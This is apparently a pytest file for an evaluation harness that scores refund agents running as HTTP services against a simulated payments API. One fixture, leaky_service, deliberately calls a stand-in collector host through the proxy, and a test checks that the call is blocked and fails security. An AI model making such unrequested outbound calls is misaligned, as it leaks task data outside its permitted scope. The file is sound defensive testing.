"""An agent that already runs as an HTTP service gets the task, the credential
and the simulation's address as one JSON POST, is scored as the same agent in
process, and its call outside the simulation through the proxy fails security."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import threading
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from harness.agents.loading import load_agent
from harness.agents.reference import careful_refund_agent, naive_refund_agent
from harness.errors import AgentLoadError
from harness.run import RunResult, run_scenario
from harness.scenario.loader import load_scenario
from tests.conftest import ROOT

Agent = Callable[[dict[str, Any]], tuple[int, dict[str, Any]]]


def _scenario(name: str = "refund_ambiguous_timeout") -> Any:
    return load_scenario(ROOT / f"scenarios/payments/{name}.yaml")


class _Calls:
    """The service's side: urllib straight to ``base_url`` (no proxy)."""

    def __init__(self, job: dict[str, Any]) -> None:
        self.job = job
        self.base = job["base_url"]
        self.opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def post(self, path: str, form: dict[str, Any], key: str | None = None) -> Any:
        headers = {"Authorization": f"Bearer {self.job['api_key']}"}
        if key:
            headers["Idempotency-Key"] = key
        request = urllib.request.Request(
            self.base + path,
            data=urllib.parse.urlencode(form).encode(),
            headers=headers,
            method="POST",
        )
        with self.opener.open(request, timeout=30) as answer:
            return json.loads(answer.read())


def careful_service(job: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    calls, task = _Calls(job), job["task"]["input"]
    form = {"charge": task["charge"], "amount": task["amount"]}
    for _ in range(3):
        try:
            refund = calls.post("/payments/v1/refunds", form, key="one-refund")
        except (urllib.error.URLError, ConnectionError):
            continue
        return 200, {"status": "done", "summary": f"refunded {refund['id']}"}
    return 200, {"status": "failed", "summary": "gave up"}


def naive_service(job: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    calls, task = _Calls(job), job["task"]["input"]
    form = {"charge": task["charge"], "amount": task["amount"]}
    for _ in range(3):
        try:
            refund = calls.post("/payments/v1/refunds", form)
        except (urllib.error.URLError, ConnectionError):
            continue
        return 200, {"status": "done", "summary": f"refunded {refund['id']}"}
    return 200, {"status": "failed", "summary": "gave up"}


def leaky_service(job: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    """Careful with money, then posts the ticket to a host of its own choosing
    through the proxy it was given."""
    outcome = careful_service(job)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"https": job["proxy"], "http": job["proxy"]})
    )
    with contextlib.suppress(OSError):  # URLError is an OSError
        opener.open("https://collector.example.com/ingest", timeout=10)
    return outcome


@pytest.fixture
def service() -> Iterator[Callable[[Agent], str]]:
    servers: list[ThreadingHTTPServer] = []

    def serve(agent: Agent) -> str:
        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                job = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                status, answer = agent(job)
                data = json.dumps(answer).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format: str, *args: Any) -> None:
                return

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        # the harness hangs up on a service it gave up on: no traceback for that
        server.handle_error = lambda request, address: None  # type: ignore[method-assign]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}/run"

    yield serve
    for server in servers:
        server.shutdown()
        server.server_close()


def _ledger(result: RunResult) -> list[dict[str, Any]]:
    return [entry.to_json() for entry in result.world.ledger]


def test_a_careful_service_passes_and_a_naive_one_fails_as_in_process(
    service: Callable[[Agent], str],
) -> None:
    careful = run_scenario(_scenario(), load_agent(service(careful_service)), seed=7)
    naive = run_scenario(_scenario(), load_agent(service(naive_service)), seed=7)
    inside = run_scenario(_scenario(), naive_refund_agent, seed=7)
    assert careful.passed
    assert not naive.passed
    assert naive.failed_oracles == inside.failed_oracles
    assert _ledger(naive) == _ledger(inside)
    assert careful.sandbox == "service"


NODE = shutil.which("node")
REFUNDS = ROOT / "harness/agents/node/refunds.mjs"


def node_service(variant: str) -> Agent:
    """A service that does the work with the Node refund agent, handing it the
    job as the command contract's environment."""

    def agent(job: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        env = {
            **os.environ,
            "AQE_TASK": json.dumps(job["task"]),
            "AQE_API_KEY": job["api_key"],
            "AQE_BASE_URL": job["base_url"],
        }
        done = subprocess.run(
            [str(NODE), str(REFUNDS), variant],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        return 200, json.loads(done.stdout.splitlines()[-1])

    return agent


@pytest.mark.skipif(NODE is None, reason="Node.js is not installed here")
@pytest.mark.parametrize(
    "scenario", ["refund_ambiguous_timeout", "refund_over_limit_approval"]
)
@pytest.mark.parametrize(
    ("variant", "in_process"),
    [("careful", careful_refund_agent), ("naive", naive_refund_agent)],
)
def test_a_service_gets_the_verdicts_and_ledger_of_the_same_agent_in_process(
    service: Callable[[Agent], str], scenario: str, variant: str, in_process: Any
) -> None:
    url = service(node_service(variant))
    outside = run_scenario(_scenario(scenario), load_agent(url), seed=12)
    inside = run_scenario(_scenario(scenario), in_process, seed=12)
    assert outside.passed is inside.passed is (variant == "careful")
    assert {s.oracle: s.passed for s in outside.scores} == {
        s.oracle: s.passed for s in inside.scores
    }
    assert _ledger(outside) == _ledger(inside)
    assert outside.agent == url


def test_the_service_gets_task_key_base_url_proxy_and_authority(
    service: Callable[[Agent], str],
) -> None:
    seen: list[dict[str, Any]] = []

    def agent(job: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        seen.append(job)
        return 200, {"status": "done", "summary": "looked"}

    result = run_scenario(_scenario(), load_agent(service(agent)), seed=2)
    (job,) = seen
    assert set(job) == {"task", "api_key", "base_url", "proxy", "ca_cert"}
    assert job["task"]["scenario"] == "refund_ambiguous_timeout"
    assert job["task"]["seed"] == 2
    assert job["api_key"].startswith("sk_test_")
    assert job["base_url"] == job["proxy"]
    assert job["ca_cert"].startswith("-----BEGIN CERTIFICATE-----")
    assert result.agent_result is not None
    assert result.agent_result.summary == "looked"


def test_the_services_outside_call_is_blocked_and_fails_security(
    service: Callable[[Agent], str],
) -> None:
    result = run_scenario(_scenario(), load_agent(service(leaky_service)), seed=7)
    assert not result.passed
    assert result.failed_oracles == ("security",)
    blocked = [e.value for e in result.world.history if e.f == "blocked_request"]
    assert blocked == [
        {
            "door": "proxy",
            "method": "CONNECT",
            "url": "https://collector.example.com:443",
        }
    ]


def test_a_service_answering_an_error_is_a_recorded_failure(
    service: Callable[[Agent], str],
) -> None:
    url = service(lambda job: (500, {"error": "boom"}))
    result = run_scenario(_scenario(), load_agent(url), seed=1)
    assert result.score("agent").explanation == (
        'the agent service answered 500: {"error": "boom"}'
    )


def test_a_service_that_is_not_running_is_a_recorded_failure() -> None:
    result = run_scenario(_scenario(), load_agent("http://127.0.0.1:9/run"), seed=1)
    assert result.score("agent").explanation.startswith(
        "the agent service at http://127.0.0.1:9/run did not answer:"
    )


def test_a_service_that_never_answers_is_given_up_at_the_wall_timeout(
    service: Callable[[Agent], str],
) -> None:
    release = threading.Event()

    def stuck(job: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        release.wait(10)
        return 200, {}

    url = service(stuck)
    try:
        result = run_scenario(_scenario(), load_agent(url), seed=1, wall_timeout=0.5)
    finally:
        release.set()
    assert result.score("agent").explanation.startswith(
        "stopped by the harness (wall_timeout): the agent ran for more than 0.5 s"
    )


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        (
            "http:///run",
            "cannot read agent service 'http:///run': no host in the URL",
        ),
        (
            "http://127.0.0.1:99999/run",
            "cannot read agent service 'http://127.0.0.1:99999/run': Port out of"
            " range 0-65535",
        ),
    ],
)
def test_a_bad_service_url_is_a_clear_load_error(spec: str, message: str) -> None:
    with pytest.raises(AgentLoadError) as caught:
        load_agent(spec)
    assert str(caught.value) == (
        f"{message}\n    fix: e.g. --aqe-agent http://127.0.0.1:8080/run"
    )


def test_the_session_says_which_verdicts_no_kernel_contained() -> None:
    from harness.reporting.summary import unsandboxed_line

    line = unsandboxed_line(
        {"runs": 4, "sandbox": {"kernel": 1, "proxy": 1, "service": 2}}
    )
    assert line == (
        "unsandboxed: 3 of 4 runs: 1 as commands without kernel namespaces"
        " (pointed at the simulation by proxy variables only); 2 by agent"
        " services, which run where they run (only what they send the harness"
        " is seen)"
    )
